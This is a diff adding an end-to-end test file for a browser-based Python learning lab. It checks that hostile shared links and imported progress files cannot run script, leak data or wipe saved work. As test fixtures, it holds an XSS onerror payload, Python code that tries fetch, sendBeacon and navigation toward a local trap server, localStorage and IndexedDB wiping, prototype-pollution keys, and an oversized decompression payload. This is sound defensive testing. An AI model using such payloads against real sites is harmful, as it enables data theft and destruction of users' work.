@@ -1,0 +1,211 @@
+"""What a stranger sends, a link or a file to import, in the real pages of each engine.
+
+It is opened next to a socket that listens and to work that is kept: neither hears of it.
+"""
+
+from __future__ import annotations
+
+import base64
+import json
+import zlib
+from typing import Any
+
+from tests.e2e.engines.profiles import Page, Profile, eventually, having_testid, wait_until
+from tests.e2e.engines.server import SiteServer, Trap
+from tests.e2e.engines.test_journeys import LOSS, STATE, TEXT, VALUE, ready, write
+
+HTML = "<img src=x onerror=\"document.title='taken'\">"
+OWN = LOSS + "# my own work"
+# Ways out of the page, into it, and to what it keeps; the last line is what the test waits for.
+HOSTILE = """import asyncio, js
+print({html!r})
+
+def attempt(way):
+    try:
+        way()
+    except BaseException:
+        pass
+
+attempt(lambda: js.fetch({out!r}))
+attempt(lambda: js.navigator.sendBeacon({out!r}))
+attempt(lambda: js.importScripts({out!r}))
+attempt(lambda: js.localStorage.clear())
+attempt(lambda: js.indexedDB.deleteDatabase('x'))
+attempt(lambda: js.parent.location.assign({out!r}))
+attempt(lambda: js.postMessage({html!r}))
+
+def loss(x=1.0):
+    raise ValueError({html!r} + 'the end')
+"""
+KEPT = "() => JSON.stringify(Object.entries(localStorage).sort())"
+# Without the line that the driver of one engine leaves before what it inserts.
+CODE = "() => document.querySelector('lab-page')?.session?.state.code.trim() ?? ''"
+TAKEN = """() => [
+  document.title === 'taken', document.querySelectorAll('img[src=x]').length,
+  ({}).evil ?? null, typeof globalThis.evil,
+]"""
+CLEAN = [False, 0, None, "undefined"]
+GIVE_FILE = """(text) => {
+  const input = document.querySelector('[data-testid=import]');
+  const transfer = new DataTransfer();
+  transfer.items.add(new File([text], 'progress.json', { type: 'application/json' }));
+  input.files = transfer.files;
+  input.dispatchEvent(new Event('change', { bubbles: true }));
+}"""
+
+
+def link(content: Any) -> str:
+    """The fragment of a link that holds this, whether or not the Lab would have made it."""
+    text = content if isinstance(content, str) else json.dumps(content)
+    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
+    packed = packer.compress(text.encode()) + packer.flush()
+    return "#lab=" + base64.urlsafe_b64encode(packed).decode().rstrip("=")
+
+
+def hostile(trap: Trap) -> str:
+    return HOSTILE.format(html=HTML, out=f"http://127.0.0.1:{trap.port}/")
+
+
+def with_own_work(profile: Profile, host: SiteServer) -> tuple[Page, str]:
+    """Write and run something of one's own, and leave; give the tab, and all that is kept then."""
+    page = profile.new_page()
+    page.resize(1280, 800)
+    page.goto(host.address)
+    ready(page)
+    write(page, OWN)
+    page.click(having_testid("run"))
+    eventually(lambda: page.evaluate(VALUE, "loss") == 4)
+    ready(page)
+    wait_until(page, "() => Object.values(localStorage).some(v => v.includes('my own work'))")
+    wait_until(page, "() => !Object.keys(localStorage).some(k => k.endsWith('lab-running'))")
+    page.goto(host.address + "course.html")  # leaving writes the last of it
+    return page, page.evaluate(KEPT)
+
+
+def test_a_hostile_link_is_not_run_and_when_run_reaches_nothing(
+    profile: Profile, host: SiteServer, trap: Trap
+) -> None:
+    page, kept = with_own_work(profile, host)
+    settings = {"optimizer": HTML, "rate": HTML, "steps": 1e99, "start": [HTML], "evil": 1}
+    text = json.dumps({"code": hostile(trap), "settings": settings, "axes": [HTML, -1]})
+    text = text.replace('"evil": 1', '"__proto__": {"evil": 1}, "constructor": {"evil": 1}')
+    page.goto(host.address + link(text))
+    eventually(lambda: "by a link" in page.evaluate(TEXT, "by-link"), what="the notice")
+    ready(page)
+    assert page.evaluate(CODE) == hostile(trap).strip()
+    assert page.evaluate(TEXT, "console") == ""
+    page.click(having_testid("run"))
+    eventually(lambda: "the end" in page.evaluate(TEXT, "error"), what="it has run")
+    ready(page)
+    assert HTML in page.evaluate(TEXT, "console")
+    assert page.evaluate(TAKEN) == CLEAN
+    assert page.evaluate(KEPT) == kept
+    page.click(f"{having_testid('by-link')} a")
+    wait_until(page, f"(own) => ({CODE})() === own", OWN)
+
+
+DAMAGED = {
+    "no JSON": "not even JSON",
+    "too long": {"code": "a" * 50_001},
+    "not a text": {"code": ["def loss(): ..."]},
+    "too deep": "[" * 100_000,
+    "far too large when unpacked": " " * 20_000_000,
+}
+
+
+def test_a_damaged_link_is_told_and_ones_own_work_opens(profile: Profile, host: SiteServer) -> None:
+    page, kept = with_own_work(profile, host)
+    for what, content in DAMAGED.items():
+        page.goto(host.address + link(content))
+        eventually(lambda: "damaged" in page.evaluate(TEXT, "notice"), what=what)
+        assert page.evaluate(CODE) == OWN, what
+        assert page.evaluate(TAKEN) == CLEAN, what
+        assert page.evaluate(KEPT) == kept, what
+        page.goto(host.address + "course.html")
+
+
+def test_a_hostile_file_of_progress_stays_text(
+    profile: Profile, host: SiteServer, trap: Trap
+) -> None:
+    record = {"code": HTML, "answer": HTML, "passed": HTML, "hints": 1e99, "at": HTML}
+    text = json.dumps({
+        "kind": "autograd-from-scratch progress", "version": 1, "engine": hostile(trap),
+        "exercises": {"problem-guess": record, HTML: record, "evil-1": {"evil": HTML}},
+    }).replace('"evil-1"', '"__proto__"')
+    page = profile.new_page()
+    page.goto(host.address + "course.html")
+    wait_until(page, "() => Boolean(document.querySelector('[data-testid=import]'))")
+    page.evaluate(GIVE_FILE, text)
+    told = "() => ['transfer-told', 'transfer-problem'].map(id => " \
+        "document.querySelector(`[data-testid=${id}]`)?.textContent ?? '').join('')"
+    wait_until(page, told)
+    assert page.evaluate(TAKEN) == CLEAN
+    page.goto(host.address)  # where the student's engine, a stranger's now, could be chosen
+    ready(page)
+    page.goto(host.address + "engine.html")
+    wait_until(page, "() => document.body.innerText.length > 200")
+    assert page.evaluate(TAKEN) == CLEAN
+
+
+# A tab in the background is given no frames: what waits for one waits until the tab is seen again.
+NO_FRAMES = """() => {
+  const waiting = [];
+  const { requestAnimationFrame } = window;
+  window.requestAnimationFrame = (callback) => waiting.push(callback);
+  window.seenAgain = () => {
+    window.requestAnimationFrame = requestAnimationFrame;
+    waiting.splice(0).forEach((callback) => requestAnimationFrame(callback));
+  };
+}"""
+DONE = """() => {
+  const { busy, descent, ranCode, code } = document.querySelector('lab-page').session.state;
+  return !busy && ranCode === code && Boolean(descent?.end);
+}"""
+
+
+def test_a_tab_in_the_background_ends_its_work_and_shows_it_when_seen(
+    profile: Profile, host: SiteServer
+) -> None:
+    page = profile.new_page()
+    page.resize(1280, 800)
+    page.goto(host.address)
+    ready(page)
+    write(page, OWN)
+    eventually(lambda: page.evaluate(CODE) == OWN, what="the text is there")
+    page.evaluate(NO_FRAMES)
+    page.click(having_testid("run"))
+    wait_until(page, DONE)
+    assert page.evaluate(VALUE, "loss") != 4  # not seen yet: nothing was drawn
+    page.evaluate("() => seenAgain()")
+    eventually(lambda: page.evaluate(VALUE, "loss") == 4, what="the numbers")
+    eventually(lambda: page.evaluate(STATE) == "ready", what="it says that it is ready")
+    wait_until(page, "() => Object.values(localStorage).some(v => v.includes('my own work'))")
+
+
+# The tab behind is not drawn in every engine: what it does is asked of its session.
+RUN = """(code) => {
+  const { session } = document.querySelector('lab-page');
+  session.edit(code);
+  void session.run();
+}"""
+LOSS_THERE = "() => document.querySelector('lab-page').session.state.result.loss"
+LAB_READY = "() => document.querySelector('lab-page')?.pythonState === 'ready'"
+
+
+def test_two_tabs_keep_each_others_text(profile: Profile, host: SiteServer) -> None:
+    tabs = {name: profile.new_page() for name in ("of the first", "of the second")}
+    for name, page in tabs.items():
+        page.goto(host.address)
+        wait_until(page, LAB_READY)
+        page.evaluate(RUN, f"{LOSS}# {name}")
+        wait_until(page, DONE)
+        assert page.evaluate(LOSS_THERE) == 4
+    for name, page in tabs.items():
+        assert name in page.evaluate(CODE)
+    [first, *_] = tabs.values()
+    first.reload()
+    wait_until(first, LAB_READY)
+    versions = first.evaluate(
+        "() => Object.entries(localStorage).find(([k]) => k.endsWith('lab-versions'))?.[1] ?? ''")
+    for name in tabs:
+        assert name in versions, f"the text {name} can be had back"
